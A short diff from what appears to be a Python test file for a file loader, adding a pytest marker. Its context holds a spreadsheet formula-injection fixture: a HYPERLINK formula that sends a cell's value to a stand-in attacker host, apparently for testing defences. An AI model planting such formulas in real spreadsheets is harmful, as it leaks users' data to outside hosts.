@@ -16,6 +16,8 @@ from loaders.load import InputFile, load_files, unzip
 from loaders.problems import FileRejected
 from loaders.store import load_history
 
+pytestmark = pytest.mark.pure
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
